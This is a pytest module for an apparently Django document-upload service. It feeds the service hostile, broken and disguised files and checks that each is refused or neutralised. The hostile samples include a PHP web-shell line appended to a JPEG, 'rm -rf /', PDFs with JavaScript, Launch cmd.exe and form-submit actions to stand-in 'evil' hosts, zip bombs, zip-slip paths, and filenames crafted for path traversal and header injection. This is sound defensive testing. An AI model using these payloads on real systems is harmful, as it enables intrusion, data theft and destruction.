"""Files that mean harm, are broken or lie: each is refused with its cause or made harmless, and none is a fault."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pillow_heif
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from intake import decoding
from intake.models.documents import Document
from intake.operations import inspecting
from tests.factories import network
from tests.factories.antivirus import EICAR
from tests.factories.papers import pdf, picture, stored
from tests.intake.moments import MONDAY_MORNING as NOW

pytestmark = pytest.mark.django_db
pillow_heif.register_heif_opener()


def changed(change: Callable[[pikepdf.Pdf], None], **saving) -> bytes:
    made = pikepdf.open(io.BytesIO(pdf(1)))
    change(made)
    file = io.BytesIO()
    made.save(file, **saving)
    return file.getvalue()


def with_action(**action) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Dictionary(**action)

    return changed(change)


def with_annotation(**annotation) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **annotation)]

    return changed(change)


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["evil.exe"] = pikepdf.AttachedFileSpec(
        made, b"MZ", filename="evil.exe", description="", mime_type="", creation_date="", mod_date="")


def with_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def with_external_stream(made: pikepdf.Pdf) -> None:
    stream = made.make_stream(b"")
    stream.F = pikepdf.String("http://evil.example/x")
    made.pages[0].Contents = stream


def deeply_nested(made: pikepdf.Pdf) -> None:
    inner = pikepdf.Array()
    for _ in range(90):
        inner = pikepdf.Array([inner])
    made.Root.Deep = inner


def compressed_bomb(made: pikepdf.Pdf) -> None:
    made.pages[0].Contents = made.make_stream(b"0 0 m " * 3_000_000)


def pages_in_a_circle(made: pikepdf.Pdf) -> None:
    made.Root.Pages.Kids.append(made.Root.Pages)


def without_pages(made: pikepdf.Pdf) -> None:
    del made.pages[0]


def locked(user: str, owner: str = "chủ") -> bytes:
    return changed(lambda made: None, encryption=pikepdf.Encryption(user=user, owner=owner))


def image(mode: str, form: str, **saving) -> bytes:
    file = io.BytesIO()
    Image.new(mode, (1000, 40)).save(file, form, **saving)
    return file.getvalue()


def animated(form: str) -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), colour) for colour in ("red", "blue", "green")]
    frames[0].save(file, form, save_all=True, append_images=frames[1:])
    return file.getvalue()


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, *, rows: bytes = b"") -> bytes:
    """A PNG that claims a size and may hold none of it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    plain = picture("PNG")
    bomb = png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"0" * 60_000_000))
    return plain[:33] + bomb + plain[33:]


def icc_bomb() -> bytes:
    return image("RGB", "JPEG", icc_profile=b"\0" * 4_000_000)


def exif(orientation: int) -> bytes:
    tags = Image.Exif()
    tags[0x0112] = orientation
    tags.get_ifd(0x8825)[1] = "N"
    return image("RGB", "JPEG", exif=tags)


def zipped(name: str = "a.txt", content: bytes = b"x") -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return file.getvalue()


TAKEN, REFUSED, UNKNOWN = 200, 422, 415
FILES: list[tuple[str, Callable[[], bytes], int]] = [
    # broken
    ("empty", lambda: b"", REFUSED), ("one byte", lambda: b"\xff", UNKNOWN), ("zeros", lambda: b"\0" * 5000, UNKNOWN),
    ("jpeg cut in its header", lambda: picture()[:20], REFUSED),
    ("jpeg cut", lambda: image("RGB", "JPEG")[:400], REFUSED),
    ("jpeg of garbage", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 20, REFUSED),
    ("png cut", lambda: picture("PNG")[:60], REFUSED), ("png header only", lambda: picture("PNG")[:8], REFUSED),
    ("png without pixels", lambda: png_of(10, 10), 0), ("png of no size", lambda: png_of(0, 0), REFUSED),
    ("heic cut", lambda: picture("HEIF")[:200], REFUSED),
    ("heic of garbage", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 400, REFUSED),
    ("pdf cut", lambda: pdf()[:-40], REFUSED), ("pdf header only", lambda: b"%PDF-1.7\n", REFUSED),
    ("pdf of garbage", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", REFUSED),
    ("pdf without pages", lambda: changed(without_pages), REFUSED),
    ("pdf of 501 pages", lambda: pdf(501), REFUSED), ("pdf of 5,000 pages", lambda: pdf(5000), REFUSED),
    ("pdf with a password", lambda: locked("bí mật"), REFUSED),
    ("pdf locked against changes only", lambda: locked(""), TAKEN),
    ("pdf whose table of objects is wrong", lambda: pdf().replace(b"startxref", b"startxxxx"), 0),
    ("pdf whose pages lead in a circle", lambda: changed(pages_in_a_circle), 0),
    # lies
    ("svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", UNKNOWN),
    ("html", lambda: b"<html><script>x()</script></html>", UNKNOWN),
    ("html before pdf", lambda: b"<html>" + pdf(), UNKNOWN), ("xml", lambda: b"<?xml version='1.0'?><x/>", UNKNOWN),
    ("gif", lambda: picture("GIF"), UNKNOWN), ("webp", lambda: picture("WEBP"), UNKNOWN),
    ("tiff", lambda: picture("TIFF"), UNKNOWN), ("bmp", lambda: picture("BMP"), UNKNOWN),
    ("docx", lambda: zipped("word/document.xml"), UNKNOWN), ("xls", lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, UNKNOWN),
    ("exe", lambda: b"MZ" + b"\0" * 600, UNKNOWN), ("lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99, UNKNOWN),
    ("zip bomb", lambda: zipped("0", b"\0" * 10_000_000), UNKNOWN), ("zip slip", lambda: zipped("../../x"), UNKNOWN),
    ("gzip", lambda: gzip.compress(pdf()), UNKNOWN), ("script", lambda: b"#!/bin/sh\nrm -rf /\n", UNKNOWN),
    ("text", "xin chào".encode, UNKNOWN), ("postscript", lambda: b"%!PS-Adobe-3.0\n", UNKNOWN),
    ("rtf", lambda: b"{\\rtf1}", UNKNOWN), ("avif", lambda: b"\0\0\0\x18ftypavif" + b"\0" * 40, UNKNOWN),
    ("mp4", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 40, UNKNOWN),
    # two things at once
    ("jpeg and php", lambda: picture() + b"<?php system($_GET[0]); ?>", TAKEN),
    ("jpeg and zip", lambda: picture() + zipped(), TAKEN),
    ("png and html", lambda: picture("PNG") + b"<script>x</script>", TAKEN),
    ("pdf and zip", lambda: pdf() + zipped(), TAKEN), ("pdf and html", lambda: pdf() + b"<html><script>x()", TAKEN),
    ("pdf and exe", lambda: pdf() + b"MZ" + b"\0" * 9000, TAKEN), ("eicar in pdf", lambda: pdf() + EICAR, TAKEN),
    ("eicar", lambda: EICAR, UNKNOWN), ("eicar in a picture", lambda: image("RGB", "JPEG", comment=EICAR), TAKEN),
    # pdfs that do things
    ("javascript", lambda: with_action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()")), TAKEN),
    ("launch", lambda: with_action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")), TAKEN),
    ("goto elsewhere", lambda: with_action(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\x")), TAKEN),
    ("submit", lambda: with_action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil")), TAKEN),
    ("link", lambda: with_annotation(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI=pikepdf.String("http://evil"))), TAKEN),
    ("chained actions", lambda: with_action(S=pikepdf.Name.GoTo, D=[0], Next=pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("x()"))), TAKEN),
    ("attachment on a page", lambda: with_annotation(Subtype=pikepdf.Name.FileAttachment), TAKEN),
    ("film on a page", lambda: with_annotation(Subtype=pikepdf.Name.RichMedia), TAKEN),
    ("attachment", lambda: changed(with_attachment), TAKEN), ("xfa", lambda: changed(with_xfa), TAKEN),
    ("content elsewhere", lambda: changed(with_external_stream), TAKEN),
    ("nested without end", lambda: changed(deeply_nested), 0),
    ("swells when opened", lambda: changed(compressed_bomb), TAKEN),
    # pictures that are odd
    ("pixel flood png", lambda: png_of(50_000, 50_000), REFUSED),
    ("pixel flood jpeg", lambda: image("L", "JPEG").replace(
        struct.pack(">HH", 40, 1000), struct.pack(">HH", 60_000, 60_000)), REFUSED),
    ("png text bomb", png_with_text_bomb, 0), ("icc bomb", icc_bomb, TAKEN),
    ("cmyk", lambda: image("CMYK", "JPEG"), TAKEN), ("grey", lambda: image("L", "JPEG"), TAKEN),
    ("16 bit", lambda: image("I;16", "PNG"), TAKEN), ("one bit", lambda: image("1", "PNG"), TAKEN),
    ("palette", lambda: image("P", "PNG"), TAKEN), ("transparent", lambda: image("RGBA", "PNG"), TAKEN),
    ("animated png", lambda: animated("PNG"), TAKEN),
    ("progressive", lambda: image("RGB", "JPEG", progressive=True), TAKEN),
    ("turned, with its place", lambda: exif(6), TAKEN), ("odd orientation", lambda: exif(99), TAKEN),
    ("heic", lambda: picture("HEIF"), TAKEN), ("one pixel", lambda: picture(size=(1, 1)), TAKEN),
    ("long strip", lambda: picture(size=(1, 9000)), TAKEN),
]
"""Name, file, answer; 0: either is right, as long as it is no fault."""


@pytest.fixture
def clerk(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    clerk = network.clerk()
    client.force_login(clerk)
    return clerk


def sent(client, content: bytes, name: str = "scan.pdf"):
    return client.post("/api/v1/documents", {"component": "to_khai", "file": SimpleUploadedFile(name, content)},
                       headers={"Idempotency-Key": "hostile-upload-0001"})


@pytest.mark.parametrize(("content", "expected"), [pytest.param(make, code, id=name) for name, make, code in FILES])
def test_a_hostile_file_is_refused_with_its_cause_or_made_harmless(client, clerk, content, expected, monkeypatch):
    ask, undrawn = decoding.ask, {"cause": "unreadable"}  # small pictures are not what this is about
    monkeypatch.setattr(decoding, "ask", lambda verb, **more: undrawn if verb == "draw" else ask(verb, **more))
    original = content()
    answer = sent(client, original)

    assert answer.status_code in ({201, 422} if expected == 0 else {201} if expected == TAKEN else {expected})
    document = Document.objects.first()
    if answer.status_code != 201:
        assert document is None
        assert answer.json()["code"] in {"document-unreadable", "document-type-not-accepted", "document-too-large"}
        return
    waiting = client.get(reverse("intake:scan", args=[document.id]))
    assert original not in waiting.content, "unchecked bytes are never shown"
    inspecting.prepare_document(document_id=document.id, at=NOW)
    shown = client.get(reverse("intake:scan", args=[document.id]))
    assert shown.status_code == 200
    assert shown["X-Content-Type-Options"] == "nosniff"
    for harm in (b"<?php", b"<script", b"MZ", b"PK\x03\x04", b"EICAR", b"/JavaScript", b"/Launch", b"/EmbeddedFile",
                 b"/XFA", b"evil", b"http://", b"/RichMedia", b"Exif"):
        assert harm not in shown.content


NAMES = ["../../etc/passwd", "a\u202efdp.exe", "nul\0.pdf", "x" * 300, "con", "AUX.pdf", "Giấy khai sinh.pdf",
         "Gia\u0302\u0301y.pdf", '"; filename="x.html', "a\r\nSet-Cookie: x=1.pdf", "", ".", "<b>.pdf", "SCAN.PDF.EXE"]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_text_for_people_and_nothing_else(client, clerk, name):
    document = stored(network.acting(clerk), pdf(1), name=name)
    inspecting.prepare_document(document_id=document.id, at=NOW)

    answer = client.get(f"/api/v1/documents/{document.id}/content")

    disposition = answer["Content-Disposition"]
    assert answer.status_code == 200
    assert disposition.startswith("attachment")
    assert not any(sign in disposition for sign in ("\r", "\n", "\0", "\u202e", "/"))
    assert ".pdf" in disposition
    assert ".exe" not in disposition.lower()


def test_an_announced_length_is_refused_before_the_body_is_read(client, clerk):
    class Unread(io.BytesIO):
        def read(self, *_size):
            raise AssertionError("the body was read")

    huge = {"wsgi.input": Unread(), "CONTENT_LENGTH": str(200 * 1024 * 1024)}
    answer = client.post("/api/v1/documents", b"x", content_type="multipart/form-data; boundary=x",
                         HTTP_IDEMPOTENCY_KEY="huge-upload-0001", **huge)

    assert answer.status_code == 413


def test_a_file_of_more_than_twenty_megabytes_is_refused(client, clerk):
    answer = sent(client, b"%PDF-1.7\n" + b"0" * (20 * 1024 * 1024 + 1))

    assert answer.status_code == 413
    assert not Document.objects.exists()
